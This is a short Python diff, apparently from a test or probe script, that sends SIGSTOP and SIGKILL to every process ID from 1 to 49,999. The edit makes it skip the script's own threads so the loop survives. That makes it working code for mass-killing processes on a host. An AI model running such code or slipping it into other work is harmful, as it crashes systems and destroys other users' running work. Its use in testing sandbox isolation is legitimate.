@@ -10,8 +10,9 @@ from honest import *
 import os
 import signal
 
+mine = {int(name) for name in os.listdir("/proc/self/task")}
 for pid in range(1, 50_000):
-    if pid != os.getpid():
+    if pid not in mine:
         for number in (signal.SIGSTOP, signal.SIGKILL):
             try:
                 os.kill(pid, number)
